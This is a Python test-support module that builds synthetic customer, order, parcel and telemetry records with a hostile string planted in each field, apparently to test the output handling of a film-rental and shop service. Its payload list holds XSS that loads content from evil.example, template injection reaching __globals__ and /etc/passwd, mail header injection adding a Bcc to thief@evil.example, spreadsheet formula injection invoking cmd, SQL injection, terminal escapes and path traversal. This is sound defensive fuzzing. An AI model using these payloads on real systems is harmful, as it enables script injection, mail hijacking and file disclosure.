"""Hostile texts for every field that somebody else fills, and the service whose records hold them."""

import html
import itertools
import json
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from random import Random
from typing import Any, Final
from urllib.parse import quote

from tests.support.stories import EVENING, HOUR, MINUTE, never_starts
from tests.support.viewing import a_viewing

FORGED: Final = "forged: all is well"
"""What no line of anything may begin with."""
THIEF: Final = "thief@evil.example"
PRODUCT: Final = "3919867"
"""What comes out where `40411 * 97` is worked out and not shown."""
SUM: Final = "40411*97"

PAYLOADS: Final = (
    # HTML
    "<script>alert(1)</script>",
    "</title><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><iframe src="javascript:alert(1)">',
    "' onmouseover='alert(1)' x='",
    '" style="background:url(//evil.example/p)" x="',
    "<a href=javascript:alert(1)>here</a>",
    "<form action=//evil.example><input name=card>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "</style><style>*{background:url(//evil.example)}</style>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "</p></td></tr></table></body></html><marquee>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\x00ipt>alert(1)</script>",
    # Templates
    "{{ " + SUM + " }}",
    "{% print(" + SUM + ") %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ letter.__init__.__globals__ }}",
    "{% include '/etc/passwd' %}",
    "{# " + FORGED,
    "${" + SUM + "} #{" + SUM + "} <%= " + SUM + " %>",
    "%(title)s %s %n {0} {title} {__class__}",
    # Headers
    f"x\r\nBcc: {THIEF}",
    f"x\nTo: {THIEF}\n\nhello",
    f"x\r\n\r\n<html>{FORGED}",
    f"x\u2028Bcc: {THIEF}\u2029Cc: {THIEF}",
    f"x\x85Bcc: {THIEF}",
    f"=?utf-8?Q?x=0D=0ABcc:_{THIEF}?=",
    f"=?utf-8?B?DQpCY2M6IHRoaWVmQGV2aWwuZXhhbXBsZQ==?= <{THIEF}>",
    f"{THIEF}, rick@example.com",
    f"rick@example.com, {THIEF}",
    f"<{THIEF}> rick@example.com",
    f"group: {THIEF}, rick@example.com;",
    f'"rick" <{THIEF}>(rick@example.com)',
    f"@evil.example:{THIEF}",
    "用户@example.com",
    ".\r\nMAIL FROM:<x@evil.example>\r\n",
    # Tables
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("//evil.example","here")',
    "+1+cmd|x",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    '","' + FORGED,
    "'; DROP TABLE remedies; --",
    # Logs and terminals
    f"x\n{FORGED}",
    f"x\r{FORGED}",
    f"\x1b[2J\x1b[1;1H{FORGED}",
    "\x1b]0;owned\x07\x1b]8;;//evil.example\x1b\\here",
    "\x9b31m\x08\x08\x08\x7f",
    "[bold red]x[/bold red] [link=//evil.example]",
    # Direction, invisible and impossible characters
    "\u202egnp.exe\u202c",
    "\u2066\u2067\u2068 never closed",
    "\u200e\u200f\u061c\ufeff\u00ad\u180e",
    "\U000e0041\U000e0042 tags",
    "\ud800 half a character \udfff",
    "nul \x00 nul",
    "\\u0000 \\x00 \\0",
    "\ufffe\uffff\U0010ffff",
    "Z" + "\u0301" * 300,
    "../../../../etc/passwd",
    "A" * 5_000,
    " \u00a0\u3000\u200b",
    "",
)

ENCODINGS: Final[tuple[Callable[[str], str], ...]] = (
    lambda text: text,
    lambda text: f"Casablanca {text} (1942)",
    html.escape,
    lambda text: quote(text, safe="", errors="replace"),
    lambda text: text.swapcase(),
    lambda text: text * 2,
)

ORDER_PLACES: Final = ("title", "title.en", "title.ja", "order_id", "order_line_id", "item_id", "payment_id", "kind")
PARCEL_PLACES: Final = ("tracking_number", "carrier", "depot", "reason", "status", "received_item_id", "topic")
PERSON_PLACES: Final = ("customer_id", "name", "email", "locale", "timezone", "voice", "contact_id", "language")
BEACON_PLACES: Final = (
    *("session_id", "content_id", "app_version", "device", "cdn", "isp", "country", "player", "error_code", "codec"),
    *("state", "key_id", "signature"),
)
PLACES: Final = (*ORDER_PLACES, *ORDER_PLACES[:3], *PARCEL_PLACES, *PERSON_PLACES, "email", "email", *BEACON_PLACES)
"""What a mail shows and whom it goes to, more often."""

LOCALES: Final = ("en-US", "ja-JP", "de-DE", "ar-EG", "en-GB")
VOICES: Final = ("plain", "warm", "playful")
DAY: Final = 24 * HOUR
AS_OF: Final = EVENING + 14 * DAY


@dataclass(frozen=True)
class Attack:
    """One hostile text in one place of the records of one customer."""

    number: int
    place: str
    text: str

    def put(self, place: str, usual: str) -> str:
        """What stands in that place; a usual text is different for every attack."""
        return self.text if place == self.place else usual

    def id(self, place: str) -> str:
        """An id, which nobody else has, hostile or not."""
        usual = f"{place}-{self.number}"
        return f"{self.text} {usual}" if place == self.place else usual


def attacks(count: int, seed: int = 1_942) -> list[Attack]:
    """So many different ones, the same for every run."""
    every = [(place, encode(payload)) for place, payload, encode in itertools.product(PLACES, PAYLOADS, ENCODINGS)]
    chosen = Random(seed).sample(list(dict.fromkeys(every)), count)  # noqa: S311 a reproducible attack
    return [Attack(number, place, text) for number, (place, text) in enumerate(chosen)]


@dataclass
class Records:
    """What is read in a night, as rows."""

    orders: list[Mapping[str, Any]] = field(default_factory=list)
    customers: list[Mapping[str, Any]] = field(default_factory=list)
    grants: list[Mapping[str, Any]] = field(default_factory=list)
    beacons: list[Mapping[str, Any]] = field(default_factory=list)
    scans: list[Mapping[str, Any]] = field(default_factory=list)
    contacts: list[Mapping[str, Any]] = field(default_factory=list)

    def write(self, folder: Path) -> None:
        """As a folder that `replay` and `nightly` read."""
        (folder / "telemetry").mkdir(parents=True)
        for name in ("orders", "customers", "grants"):
            written(folder / f"{name}.jsonl", getattr(self, name))
        for name in ("beacons", "scans", "contacts"):
            written(folder / "telemetry" / f"{name}.jsonl", getattr(self, name))


def written(path: Path, rows: Sequence[Mapping[str, Any]]) -> None:
    """ASCII, so that half a character can be written as JSON writes it."""
    path.write_text("".join(f"{json.dumps(row)}\n" for row in rows))


def attacked(every: Sequence[Attack]) -> Records:
    """Each attack with a customer of its own, whose film never began or whose parcel never came."""
    records = Records()
    for attack in every:
        _person(records, attack)
        if attack.place in PARCEL_PLACES or (attack.place in ORDER_PLACES and attack.number % 2):
            _parcel(records, attack)
        else:
            _film(records, attack)
    return records


def _person(records: Records, attack: Attack) -> None:
    n = attack.number
    records.customers.append(
        {
            "customer_id": attack.id("customer_id"),
            "email": attack.put("email", f"customer-{n}@example.com"),
            "name": attack.put("name", "Rick"),
            "locale": attack.put("locale", LOCALES[n % len(LOCALES)]),
            "timezone": attack.put("timezone", "Asia/Tokyo"),
            "voice": attack.put("voice", VOICES[n % len(VOICES)]),
        }
    )


def _title(attack: Attack) -> str | dict[str, str]:
    if attack.place.startswith("title."):
        return {"en": attack.put("title.en", "Casablanca"), "ja": attack.put("title.ja", "カサブランカ")}
    return attack.put("title", "Casablanca")


def _order(attack: Attack, usual_kind: str, **more: object) -> dict[str, object]:
    return {
        "order_line_id": attack.id("order_line_id"),
        "order_id": attack.id("order_id"),
        "customer_id": attack.id("customer_id"),
        "kind": attack.put("kind", usual_kind),
        "item_id": attack.put("item_id", "casablanca-1942"),
        "title": _title(attack),
        "amount_minor": 399,
        "currency": "USD",
        "payment_id": attack.id("payment_id"),
        **more,
    }


def _film(records: Records, attack: Attack) -> None:
    begun = AS_OF - 8 * HOUR + attack.number % 60 * MINUTE
    records.orders.append(_order(attack, "rental", purchased_at=begun - HOUR, available_until=AS_OF + DAY))
    session = attack.id("session_id")
    about = {"customer_id": attack.id("customer_id"), "order_line_id": attack.id("order_line_id")}
    records.grants.append({"session_id": session, **about, "granted_at": begun - MINUTE})
    hostile = {attack.place: attack.text} if attack.place in BEACON_PLACES[1:] else {}
    for beacon in never_starts(a_viewing("session", begun + attack.number)).beacons:
        records.beacons.append({**json.loads(beacon.line()), "session_id": session, **hostile})


def _parcel(records: Records, attack: Attack) -> None:
    parcel = {"tracking_number": attack.id("tracking_number"), "carrier": attack.put("carrier", "usps")}
    goods = {"promised_date": "2026-11-27", "shipping_minor": 499, "ship_to": {"country": "US"}}
    records.orders.append(_order(attack, "goods", purchased_at=AS_OF - 20 * DAY, **goods, **parcel))
    depot = attack.put("depot", "RENO")
    picked = {**parcel, "event_time": AS_OF - 12 * DAY, "status": "picked_up", "depot": depot}
    lost = {"event_time": AS_OF - DAY, "status": attack.put("status", "lost"), "reason": attack.put("reason", "lost")}
    records.scans += [picked, {**parcel, **lost, "depot": depot}]
    records.contacts.append(
        {
            "contact_id": attack.id("contact_id"),
            "customer_id": attack.id("customer_id"),
            "order_line_id": attack.id("order_line_id"),
            "event_time": AS_OF - HOUR,
            "topic": attack.put("topic", "not_received"),
            "language": attack.put("language", "en"),
            "received_item_id": attack.put("received_item_id", "tea"),
            "text": f"{attack.text} {attack.number}",
        }
    )
